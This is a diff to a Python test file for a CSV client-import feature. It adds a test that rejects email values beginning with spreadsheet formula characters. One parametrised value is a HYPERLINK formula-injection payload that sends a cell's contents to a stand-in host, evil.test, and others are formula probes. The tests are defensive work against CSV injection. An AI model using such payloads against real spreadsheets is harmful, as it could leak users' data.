@@ -8,6 +8,7 @@ preview to show that the flush guard still refuses a row.
 
 from __future__ import annotations
 
+import csv
 import io
 from decimal import Decimal
 from types import SimpleNamespace
@@ -42,6 +43,13 @@ def names(model: type, column: str = "name") -> dict[str, Any]:
     """{name: record} of every stored record of ``model`` (unfiltered)."""
     with rbac.system():
         return {getattr(r, column): r for r in db.session.scalars(sa.select(model))}
+
+
+def csv_text(rows: list[list[str]]) -> str:
+    """``rows`` as CSV text, quoted as a spreadsheet writes them."""
+    out = io.StringIO()
+    csv.writer(out).writerows(rows)
+    return out.getvalue()
 
 
 def upload(client: Any, resource: str, text: str | bytes, filename: str = "rows.csv") -> Any:
@@ -160,6 +168,19 @@ def test_formula_cells_are_neutralised(world: SimpleNamespace, login: Any) -> No
     stored = names(Client)
     assert "'=HYPERLINK(\"http://x.test\")" in stored
     assert "=HYPERLINK(\"http://x.test\")" not in stored
+
+
+@pytest.mark.parametrize("email", ['=HYPERLINK("http://evil.test/?"&A1)@x.io', "+1@x.io",
+                                   "-cmd@x.io", "@SUM(1)@x.io", " =1@x.io"])
+def test_a_formula_looking_email_is_refused(world: SimpleNamespace, login: Any,
+                                            email: str) -> None:
+    """No address starts with a formula character, and a quote in front would leave none."""
+    admin = login(world.users["admin"], world.ws)
+    upload(admin, "clients", csv_text([["Name", "Email"], ["Mailer", email]]))
+    page = admin.get("/imports/clients").text
+    assert "is not an email address" in page and 'data-errors="1"' in page
+    assert admin.post("/imports/clients/commit").status_code == 409
+    assert "Mailer" not in names(Client)
 
 
 def test_field_rules_and_conditions_refuse_rows(world: SimpleNamespace, login: Any) -> None:
